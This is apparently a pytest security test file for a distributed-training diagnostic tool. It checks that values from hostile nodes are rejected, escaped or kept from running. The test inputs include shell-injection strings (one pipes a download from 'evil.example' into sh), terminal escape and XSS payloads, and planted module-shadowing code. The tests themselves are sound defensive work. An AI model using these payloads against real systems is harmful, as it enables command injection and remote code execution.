"""What other hosts and directories of other users contain is data: it never runs, renders or is pasted."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any, Final

import pytest
import scripts
from forked_ranks import free_port
from mesh_kit import healthy_node as node

from ddpsafe._clock import Deadline
from ddpsafe._config.endpoint import split_endpoint
from ddpsafe._job.channel import from_json
from ddpsafe.doctor import Direction, Finding, Matrix, Report, _mesh
from ddpsafe.doctor._mesh.channel_transport import Client, Server
from ddpsafe.doctor._mesh.findings.assemble import make_findings, make_matrix
from ddpsafe.doctor._mesh.findings.observations import Results, pack, unpack
from ddpsafe.doctor._mesh.local_node import LocalNode
from ddpsafe.doctor._mesh.protocol import (
    VERSION,
    Announced,
    Contact,
    Dialled,
    Facts,
    FilterChain,
    Greeting,
    NodeReport,
    Reduced,
    Roster,
    write,
)
from ddpsafe.doctor._mesh.reach_node_zero import reach_coordinator
from ddpsafe.doctor._mesh.transport import TransportLostError, gather, wait_for

EVIL: Final = "x; touch PWNED; $(touch PWNED) `touch PWNED`"
ESCAPE: Final = "gpu\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
SOON: Final = timedelta(seconds=10)


def spoiled(message: object, place: tuple[str | int, ...], value: object) -> Any:
    """Return a message as plain data with one value replaced."""
    table = json.loads(json.dumps(write(message)))
    inner = table
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    return table


def is_refused(call: Callable[[], object]) -> bool:
    """Return whether a call rejects its argument; any other error propagates."""
    try:
        call()
    except ValueError:
        return True
    return False


HELLO: Final = node(1)
ROSTER: Final = Roster(
    nnodes=2, contacts=(node(0).contact(), node(1).contact()), seed=1, clock_s=1.0
)
TOLD: Final = NodeReport(
    dialled=(Dialled(0, "dropped"),), chains=(FilterChain("inet", "filter", "input"),)
)


@pytest.mark.parametrize(
    ("message", "place", "value"),
    [
        (HELLO, ("hostname",), ESCAPE),
        (HELLO, ("hostname",), EVIL),
        (HELLO, ("hostname",), "h" * 300),
        (HELLO, ("hostname",), 7),
        (HELLO, ("port",), 99999),
        (HELLO, ("port",), -1),
        (HELLO, ("port",), 22),
        (HELLO, ("port",), "40000"),
        (HELLO, ("port",), 1e300),
        (HELLO, ("mtu_bytes",), float("nan")),
        (HELLO, ("announced", "address"), "a" * 70 + ".x"),
        (HELLO, ("announced", "address"), "evil.example"),
        (HELLO, ("announced", "address"), "169.254.169.254"),
        (HELLO, ("announced", "address"), "224.0.0.1"),
        (HELLO, ("announced", "address"), "0.0.0.0"),
        (HELLO, ("announced", "address"), "10.99.0.1"),
        (HELLO, ("announced", "address"), "fe80::1%eth0"),
        (HELLO, ("announced", "address"), "::ffff:127.0.0.1"),
        (HELLO, ("announced", "interface"), "eth0; reboot"),
        (HELLO, ("announced", "interface"), "x" * 16),
        (HELLO, ("announced", "flaw"), "odd"),
        (HELLO, ("interfaces",), {"eth0": {"10.77.0.2": "0.0.0.0/99"}}),
        (HELLO, ("interfaces",), {"eth0": {"10.77.0.2": "10.88.0.0/24"}}),
        (HELLO, ("interfaces",), {"a\x1bb": {}}),
        (HELLO, ("interfaces",), []),
        (HELLO, ("token",), "not hex"),
        (HELLO, ("node_rank",), -1),
        (HELLO, ("node_rank",), 10**30),
        (HELLO, ("facts", "env"), {"A;B": "1"}),
        (HELLO, ("facts", "env"), {"A": "x" * 100_000}),
        (HELLO, ("facts", "versions"), {"torch": ["2.13"]}),
        (HELLO, ("facts", "config"), {"backend": {"deep": {}}}),
        (ROSTER, ("contacts", 1, 2), 99999),
        (ROSTER, ("contacts", 1, 1), "localhost"),
        (ROSTER, ("contacts", 1, 0), 0),
        (ROSTER, ("contacts", 1, 0), 2),
        (ROSTER, ("contacts",), []),
        (ROSTER, ("seed",), -1),
        (ROSTER, ("clock_s",), float("inf")),
        (TOLD, ("chains", 0, 1), "filter; curl evil.example|sh #"),
        (TOLD, ("chains", 0, 0), "bridge"),
        (TOLD, ("dialled", 0, 1), "<script>"),
        (TOLD, ("dialled", 0, 2), float("inf")),
        (TOLD, ("dialled", 0, 5), ESCAPE),
        (TOLD, ("dialled",), 7),
        (Reduced(), ("took_s",), "soon"),
        (Reduced(), ("backends",), [EVIL]),
    ],
    ids=lambda each: str(each)[:40] if isinstance(each, (str, int, float, tuple)) else "",
)
def test_a_message_field_with_an_invalid_value_is_refused(
    message: object, place: tuple[str | int, ...], value: object
) -> None:
    """By its type, pattern or range, on reading, and always with the same error."""
    from_json(type(message), json.loads(json.dumps(write(message))))
    assert is_refused(lambda: from_json(type(message), spoiled(message, place, value)))


def collected_results(**changed: Any) -> Results:
    """Return the results of two nodes that do not reach each other."""
    chains = (FilterChain("inet", "filter", "input"),)
    known: dict[str, Any] = {
        "nnodes": 2,
        "backend": "gloo",
        "host": "h0",
        "port": 29500,
        "nodes": {0: node(0), 1: node(1)},
        "reports": {
            0: NodeReport(dialled=(Dialled(1, "dropped"),), chains=chains),
            1: NodeReport(dialled=(Dialled(0, "refused", error="ECONNREFUSED"),), chains=chains),
        },
    }
    return Results(**{**known, **changed})


@pytest.mark.parametrize(
    "changed",
    [
        {"nodes": {1: node(1)}},
        {"nodes": {0: node(0), 1: node(0)}},
        {"reports": {5: NodeReport(dialled=())}},
        {"nnodes": 1},
        {"names": {7: "h7"}},
        {"garbled": {7: "hello"}},
        {"host": "h0; reboot"},
        {"other_coordinator": 7},
    ],
    ids=lambda each: next(iter(each)),
)
def test_contradictory_results_are_refused(changed: dict[str, Any]) -> None:
    """Results are checked as a whole, so that no later look-up in them can fail."""
    table = json.loads(json.dumps(write(collected_results())))
    for name, value in changed.items():
        table[name] = json.loads(json.dumps(value, default=write))
    assert is_refused(lambda: from_json(Results, table))


@pytest.mark.parametrize("packed", ["", "x", "eJw=", "e30=", "AAAA" * 10, "é"])
def test_anything_but_packed_results_is_refused(packed: str) -> None:
    """Whatever is wrong with the text, the error is a ValueError."""
    assert is_refused(lambda: unpack(packed))


def test_results_of_a_backend_for_each_device_arrive() -> None:
    """A valid configuration is not a message that no doctor sends."""
    case = collected_results(backend="cpu:gloo,cuda:nccl")
    assert unpack(pack(case)) == case


def test_every_node_derives_the_findings_itself(tmp_path: Path) -> None:
    """Node rank 0 sends only the collected data, never a text, a code or a line to paste."""
    evil = {"$(touch${IFS}X)": {"10.77.0.2": "10.77.0.0/24"}}
    facts = Facts(env={"NCCL_X": EVIL}, versions={"torch": EVIL}, driver=EVIL)
    other = node(
        1,
        interfaces=evil,
        mtu_bytes=9000,
        announced=Announced(
            address="10.77.0.2",
            interface="$(touch${IFS}X)",
            chosen_by=EVIL,
            flaw="not-running",
            wanted=EVIL,
        ),
    )
    case = collected_results(nodes={0: node(0, facts=facts), 1: other})
    again = unpack(pack(case))
    assert make_findings(again) == make_findings(case)
    assert make_matrix(again) == make_matrix(case)
    pasted = [
        line.strip()
        for finding in make_findings(again)
        for line in finding.fix.splitlines()
        if line.startswith("    ")
    ]
    assert any("IFS" in line for line in pasted)
    # Each command becomes one that does nothing; shell expansions would still run.
    harmless = "\n".join(f": {line}" for line in pasted)
    subprocess.run(["bash", "-c", harmless], cwd=tmp_path, check=True, timeout=scripts.LIMIT_S)
    assert list(tmp_path.iterdir()) == []


def test_text_of_a_report_controls_no_terminal() -> None:
    """Control characters, C1 and bidirectional ones are shown escaped."""
    finding = Finding(
        code="DS-MESH-031",
        severity="failed",
        fact=ESCAPE,
        cause=ESCAPE,
        fix=f"{ESCAPE}\n    {ESCAPE}",
        hosts=(ESCAPE,),
    )
    text = finding.as_text()
    assert all(each.isprintable() or each == "\n" for each in text), repr(text)
    assert "\\x1b]0;owned\\x07" in text


def test_html_page_runs_no_script_and_loads_no_other_file() -> None:
    """Every field is escaped everywhere, and the page's policy forbids scripts as well."""
    script = "<script>alert(1)</script>"
    finding = Finding(
        code=script,
        severity=script,  # type: ignore[arg-type]
        fact=script,
        cause=script,
        fix=f"{script}\n    {script}",
        hosts=(script,),
    )
    direction = Direction(source=0, target=1, result="open", said=script)
    matrix = Matrix(
        hostnames=(script, '"><svg onload=x>'), addresses=("", ""), directions=(direction,)
    )
    healthy = replace(finding, severity="ok")
    failing = replace(finding, severity="failed", fact=ESCAPE)
    report = Report(findings=(failing, healthy), hostname=script, matrix=matrix)
    page = report.to_html()
    assert re.search(r"(src|href)\s*=|@import|url\(|<script", page) is None
    assert "<svg onload" not in page
    assert "\x1b" not in page
    assert "Content-Security-Policy\" content=\"default-src 'none'" in page


def greeting_of(node_rank: int) -> Greeting:
    """Return the greeting of a hostile node."""
    return Greeting(version=VERSION, nnodes=2, node_rank=node_rank, hostname="evil", pid=1, job="")


def job_of(endpoint: str, node_rank: int, **asked: Any) -> _mesh.Job:
    """Return a job with two nodes, as one of them sees it."""
    host, port = split_endpoint(endpoint)
    return _mesh.Job(
        nnodes=2,
        node_rank=node_rank,
        host=host,
        port=int(port),
        interface=None,
        backend="gloo",
        timeout=timedelta(seconds=5),
        facts={},
        on_progress=lambda _: None,
        collective="skip",
        **asked,
    )


def examined(endpoint: str, node_rank: int, **asked: Any) -> tuple[list[Finding], Matrix]:
    """Act as an honest node."""
    return _mesh.examine(job_of(endpoint, node_rank, **asked))


def beside(honest: Callable[[], Any], hostile: Callable[[], Any]) -> Any:
    """Run an honest node here and a hostile one in a thread; return the result of the first."""
    other = threading.Thread(target=hostile, daemon=True)
    other.start()
    try:
        return honest()
    finally:
        other.join(scripts.LIMIT_S)
        assert not other.is_alive()


INVALID_HELLOS: Final = [
    None,
    "text",
    [[[[]]]],
    spoiled(HELLO, ("port",), 99999),
    spoiled(HELLO, ("hostname",), ESCAPE),
    spoiled(HELLO, ("announced", "address"), "a" * 70 + ".x"),
    spoiled(HELLO, ("node_rank",), 0),
]


@pytest.mark.parametrize("hello", INVALID_HELLOS, ids=lambda each: str(each)[:30])
def test_garbage_from_a_node_is_a_finding(hello: object) -> None:
    """The honest node ends with a finding about the other one, not with a traceback."""
    endpoint = f"127.0.0.1:{free_port()}"

    async def join_job() -> None:
        greeting = greeting_of(1)
        host, _, port = endpoint.partition(":")
        client = await reach_coordinator(
            host, int(port), greeting, deadline=Deadline.after(SOON), on_trouble=lambda _: None
        )
        assert isinstance(client, Client)
        try:
            await client.put("hello", hello)  # type: ignore[arg-type]
            # Node rank 0 waits 2 s until this node has read its results, which may be too short.
            with contextlib.suppress(TransportLostError):
                await wait_for(client, "results", deadline=Deadline.after(SOON))
        finally:
            await client.close()

    findings, _ = beside(lambda: examined(endpoint, 0), lambda: asyncio.run(join_job()))
    assert "DS-MESH-014" in [finding.code for finding in findings]


@pytest.mark.parametrize(
    ("topic", "value"),
    [
        ("roster", {"contacts": []}),
        ("roster", spoiled(ROSTER, ("contacts", 0, 2), 99999)),
        ("roster", {"findings": [{"severity": "x"}]}),
        ("results", "garbage"),
        ("results", {"findings": [{"code": "<script>", "severity": "x", "fact": ESCAPE}]}),
        ("all-reduce", "10.0.0.1:22"),
    ],
    ids=str,
)
def test_garbage_from_node_rank_0_is_a_finding(topic: str, value: object) -> None:
    """The other nodes check everything that node rank 0 sends."""
    endpoint = f"127.0.0.1:{free_port()}"

    async def serve() -> None:
        own = greeting_of(0)
        server = Server(own)
        await server.open(int(endpoint.partition(":")[2]))
        await gather(server, "hello", [1], deadline=Deadline.after(SOON))
        contacts = (
            Contact(0, "10.77.0.1", 0, "ab", "", "m"),
            Contact(1, "10.77.0.2", 0, "ab", "", "n"),
        )
        honest = Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0)
        said = {"roster": write(honest), "all-reduce": {"address": "", "port": 0}, topic: value}
        for each in said.items():
            await server.put(*each)  # type: ignore[arg-type]
        while 1 not in server.disconnected():  # noqa: ASYNC110 - the transport has no event for it
            await asyncio.sleep(0.01)
        await server.close()

    findings, matrix = beside(lambda: examined(endpoint, 1), lambda: asyncio.run(serve()))
    assert [finding.code for finding in findings] == ["DS-MESH-014"]
    assert matrix.directions == ()
    Report(findings=tuple(findings), hostname="h", matrix=matrix).to_html()


def test_service_on_loopback_is_not_dialled_for_another_host() -> None:
    """A service there trusts this host, so only nodes of the same host dial a loopback address."""
    dialled = threading.Event()

    async def probe() -> NodeReport:
        async def serve(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            dialled.set()
            writer.close()

        server = await asyncio.start_server(serve, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        contacts = (
            Contact(0, "127.0.0.1", port, "ab", "", "elsewhere"),
            Contact(1, "10.77.0.2", 0, "ab", "", "here"),
        )
        local_node = LocalNode(job_of("h0:1", 1))
        told = await local_node.probe(Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0))
        server.close()
        return told

    (found,) = asyncio.run(probe()).dialled
    assert (found.result, found.reason) == ("no-route", "no-address")
    assert not dialled.is_set()


@pytest.mark.full(but=["ours-theirs", "same-same"])
@pytest.mark.parametrize(
    ("ours", "theirs"), [("ours", "theirs"), ("ours", ""), ("", "theirs"), ("same", "same")]
)
def test_nodes_with_different_secrets_are_reported(ours: str, theirs: str) -> None:
    """A node without the secret does not join, and both sides report the reason."""
    endpoint = f"127.0.0.1:{free_port()}"
    others: list[Finding] = []
    findings, _ = beside(
        lambda: examined(endpoint, 0, secret=ours),
        lambda: others.extend(examined(endpoint, 1, secret=theirs)[0]),
    )
    assert ("DS-MESH-015" in [finding.code for finding in findings]) is (ours != theirs)
    assert ([finding.code for finding in others] == ["DS-MESH-015"]) is (ours != theirs)


PLANTED: Final = "import os\nwith open(os.environ['MARK'], 'a') as file: file.write(__file__)\n"


@pytest.mark.full
@pytest.mark.root
@pytest.mark.parametrize("unsafe", ["of another user", "writable for all"])
def test_code_in_an_unsafe_directory_does_not_run(tmp_path: Path, unsafe: str) -> None:
    """As when root runs `cd /tmp && ddpsafe doctor`, and files there shadow modules."""
    folder, mark = tmp_path / "shared", tmp_path / "mark"
    folder.mkdir()
    for name in ("torch", "multiprocessing", "json", "asyncio", "numpy", "runpy", "socket"):
        (folder / f"{name}.py").write_text(PLANTED, encoding="utf-8")
    if unsafe == "of another user":
        os.chown(folder, 65534, 65534)
    else:
        folder.chmod(0o1777)
    done = subprocess.run(
        [str(Path(sys.executable).with_name("ddpsafe")), "doctor", "--no-mesh", "--json"],
        cwd=folder,
        env={**scripts.clean_environment(), "MARK": str(mark)},
        capture_output=True,
        text=True,
        timeout=scripts.LIMIT_S,
        check=False,
    )
    assert not mark.exists(), mark.read_text(encoding="utf-8")
    findings = {each["code"]: each for each in json.loads(done.stdout)["findings"]}
    assert findings["DS-VER-001"]["severity"] == "ok"
    assert findings["DS-PROC-001"]["severity"] == "ok"
